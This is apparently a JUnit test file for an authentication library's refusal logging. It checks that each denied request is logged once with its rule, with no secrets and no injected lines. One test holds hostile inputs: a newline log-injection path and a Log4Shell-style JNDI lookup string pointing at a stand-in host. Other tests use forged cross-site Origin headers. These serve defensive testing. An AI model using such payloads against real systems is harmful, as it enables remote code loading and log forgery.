package dev.doorward.auth.servlet.endpoint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.doorward.auth.Mode;
import dev.doorward.auth.password.Argon2Parameters;
import dev.doorward.auth.secret.KeyRing;
import dev.doorward.auth.servlet.CurrentUser;
import dev.doorward.auth.servlet.DoorwardFilter;
import dev.doorward.auth.servlet.Guard;
import dev.doorward.auth.servlet.Guards;
import dev.doorward.auth.servlet.LoginRequired;
import dev.doorward.auth.servlet.server.Reply;
import dev.doorward.auth.servlet.server.WebServer;
import dev.doorward.auth.servlet.testing.LoggedIn;
import dev.doorward.auth.testing.TestDoorward;
import dev.doorward.auth.throttle.Limits;
import jakarta.servlet.DispatcherType;
import jakarta.servlet.Filter;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletRequestWrapper;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.EnumSet;
import java.util.List;
import org.eclipse.jetty.ee10.servlet.FilterHolder;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.slf4j.LoggerFactory;

/** Why was I refused: one line in the log for each 401 and 403, and the rule on a developer's page. */
final class RefusalLogTest {

    private static final String PERSON = "Accept: text/html";
    private static final String PROGRAM = "Accept: application/json";
    private static final Logger LOG = (Logger) LoggerFactory.getLogger(RefusalLog.class);

    @TempDir
    static Path directory;

    private static TestDoorward production;
    private static TestDoorward development;
    private static WebServer server;
    private static WebServer developers;
    private static LoggedIn ada;
    private static LoggedIn developer;

    private final ListAppender<ILoggingEvent> lines = new ListAppender<>() {
        @Override
        protected void append(ILoggingEvent line) {
            line.getMDCPropertyMap(); // as it is while the request runs
            super.append(line);
        }
    };

    private static final class ForAuditors extends HttpServlet {
        private static final long serialVersionUID = 1L;

        @Override
        @LoginRequired(role = "auditor")
        protected void doGet(HttpServletRequest request, HttpServletResponse response) throws IOException {
            response.getWriter().print("for auditors");
        }
    }

    @BeforeAll
    static void start() {
        KeyRing keys = KeyRing.readOrCreate(directory.resolve("keys.json"));
        production = TestDoorward.inMemory(builder -> builder.mode(Mode.PRODUCTION)
                .limits(Limits.standard())
                .hashing(Argon2Parameters.STANDARD)
                .keys(keys));
        development = TestDoorward.inMemory();
        server = application(production);
        developers = application(development);
        ada = LoggedIn.as(production, "ada", "clerk");
        developer = LoggedIn.as(development, "ada", "clerk");
    }

    private static WebServer application(TestDoorward test) {
        return new WebServer()
                .install(test.doorward(), RefusalLogTest::guards)
                .servlet("/audits", new ForAuditors())
                .page("/sends", (request, response) -> response.sendError(403, "because of the secret"))
                .page("/asks", (request, response) -> CurrentUser.require(request))
                .page(
                        "/forwards",
                        (request, response) ->
                                request.getRequestDispatcher("/admin/users").forward(request, response))
                .page("/admin/*", "for admins")
                .start();
    }

    private static void guards(Guards guards) {
        guards.open("/", "/open/*", "/sends", "/asks", "/forwards", "/audits")
                .require("/admin/*", Guard.role("admin", "owner"))
                .require("/admin/keys", Guard.loggedIn().freshWithin(Duration.ofMinutes(10)));
    }

    @AfterAll
    static void stop() {
        server.close();
        developers.close();
        production.close();
        development.close();
    }

    @BeforeEach
    void listen() {
        LOG.setLevel(Level.INFO);
        lines.start();
        LOG.addAppender(lines);
    }

    @AfterEach
    void stopListening() {
        LOG.detachAppender(lines);
    }

    /** The one line there is. */
    private String line() {
        assertEquals(1, lines.list.size(), () -> lines.list.toString());
        ILoggingEvent line = lines.list.get(0);
        assertEquals(Level.INFO, line.getLevel());
        return line.getFormattedMessage();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            /admin          | /admin/* needs a login
            /admin/users    | /admin/* needs a login
            /admin/keys     | /admin/keys needs a login
            /ADMIN/users    | /admin/*, which the path could be taken for, needs a login
            /forgotten      | a path that no pattern names needs a login
            /auth/account   | /auth/account/* needs a login
            /audits         | @LoginRequired on servlet
            /asks           | the page itself needs a login
            /sends          | the application, or its container, answered so
            """)
    void each_refusal_of_a_stranger_names_its_rule(String path, String rule) {
        Reply reply = server.get(path, PROGRAM);

        String line = line();
        assertTrue(line.startsWith(reply.status() + " GET " + path + " from 127.0.0.1: " + rule), line);
        assertEquals(
                reply.header("X-Request-Id"),
                lines.list.get(0).getMDCPropertyMap().get("request"));
        assertFalse(reply.body().contains(rule), "strangers in production are told nothing of it");
    }

    @Test
    void a_missing_role_is_named() {
        assertEquals(403, server.get("/admin/users", PERSON, ada.header()).status());

        assertTrue(line().endsWith("/admin/* needs role admin or owner"), line());
        assertEquals(
                ada.session().account().toString(),
                lines.list.get(0).getMDCPropertyMap().get("account"));
    }

    @Test
    void a_confirmation_that_is_too_old_is_named() {
        production.clock().turn(Duration.ofMinutes(11));

        assertEquals(401, server.get("/admin/keys", PROGRAM, ada.header()).status());

        assertTrue(line().endsWith("/admin/keys needs a login or confirmation within the last 10m"), line());
    }

    @Test
    void what_a_page_forwards_to_is_refused_in_one_line() {
        assertEquals(403, server.get("/forwards", PERSON, ada.header()).status());

        assertTrue(line().endsWith("/admin/* needs role admin or owner"), line());
    }

    @Test
    void a_forged_request_is_told_apart_from_a_lost_token() {
        String form = "Content-Type: application/x-www-form-urlencoded";

        server.post("/open/form", "a=b", PERSON, form, "Sec-Fetch-Site: cross-site");
        assertTrue(line().endsWith("another site sent the request: Sec-Fetch-Site is cross-site"), line());
        lines.list.clear();
        server.post("/open/form", "a=b", PERSON, form, "Origin: https://evil.example");
        assertTrue(line().endsWith("Origin is https://evil.example and not https://localhost"), line());
        lines.list.clear();
        server.post("/auth/login", "login=ada&password=x", PERSON, form);
        assertTrue(line().endsWith("there is no CSRF token"), line());
        lines.list.clear();
        server.post("/auth/login", "login=ada&password=x&_csrf=made-up", PERSON, form);
        assertTrue(line().endsWith("the CSRF token is not of this session or browser"), line());
    }

    @Test
    void a_refused_login_holds_nothing_that_was_typed() {
        String login = "{\"login\": \"hunter2\", \"password\": \"hunter2hunter2\"}";

        assertEquals(
                401,
                server.post("/auth/login", login, PROGRAM, "Content-Type: application/json")
                        .status());

        assertEquals("401 POST /auth/login from 127.0.0.1: the login was refused", line());
    }

    @Test
    void a_line_holds_no_query() {
        server.get("/admin/users?token=secret", PROGRAM);

        assertEquals("401 GET /admin/users from 127.0.0.1: /admin/* needs a login", line());
    }

    @Test
    void what_a_client_sends_begins_no_line_and_fills_no_disk() {
        assertEquals(
                400,
                server.get("/admin/%0a403%20GET%20/${jndi:ldap://evil.example/x}", PROGRAM)
                        .status());
        assertEquals(List.of(), lines.list, "what is no path is not refused but unreadable");
        server.get("/admin/" + "a".repeat(3000), PROGRAM);
        server.post("/open/x", "", PERSON, "Origin: https://\u00e9\u0085403 GET /");
        server.post("/open/x", "", PERSON, "Origin: https://" + "e".repeat(3000));

        assertEquals(3, lines.list.size());
        for (ILoggingEvent line : lines.list) {
            String text = line.getFormattedMessage();
            assertTrue(text.length() < 600, () -> text.length() + " characters");
            assertTrue(text.matches("[ -~]+"), text);
        }
        assertTrue(
                lines.list.stream().anyMatch(line -> line.getFormattedMessage().contains("https://?")));
    }

    @Test
    void who_is_sent_to_the_login_page_is_not_refused() {
        assertEquals(303, server.get("/admin/users", PERSON).status());

        assertEquals(List.of(), lines.list);
    }

    @Test
    void a_developer_sees_the_rule_on_the_page() {
        Reply page = developers.get("/admin/users", PERSON, developer.header());
        Reply problem = developers.get("/admin/users", PROGRAM, developer.header());

        assertTrue(page.body().contains("/admin/* needs role admin or owner"), page.body());
        assertTrue(problem.body().contains("\"details\":[\"/admin/* needs role admin or owner\"]"), problem.body());
    }

    @Test
    void who_comes_to_development_through_a_proxy_sees_no_rule() {
        Reply page = developers.get("/admin/users", PERSON, developer.header(), "X-Forwarded-For: 203.0.113.7");

        assertEquals(403, page.status());
        assertFalse(page.body().contains("needs role"), page.body());
    }

    @Test
    void who_comes_to_development_from_elsewhere_is_refused_in_one_line_without_path_parameters_and_sees_no_rule() {
        Filter farAway = (request, response, chain) -> chain.doFilter(
                new HttpServletRequestWrapper((HttpServletRequest) request) {
                    @Override
                    public String getRemoteAddr() {
                        return "203.0.113.7";
                    }
                },
                response);
        Filter ours = new DoorwardFilter(development.doorward(), new Guards().open("/*"));
        try (WebServer seen = new WebServer()) {
            seen.context().addFilter(new FilterHolder(farAway), "/*", EnumSet.of(DispatcherType.REQUEST));
            seen.context().addFilter(new FilterHolder(ours), "/*", EnumSet.allOf(DispatcherType.class));
            Reply page = seen.start().get("/page;jsessionid=secret?token=secret", PERSON);

            assertEquals(403, page.status());
            assertFalse(page.body().contains("this machine alone"), page.body());
        }
        assertEquals("403 GET /page from 203.0.113.7: development mode serves this machine alone", line());
    }
}
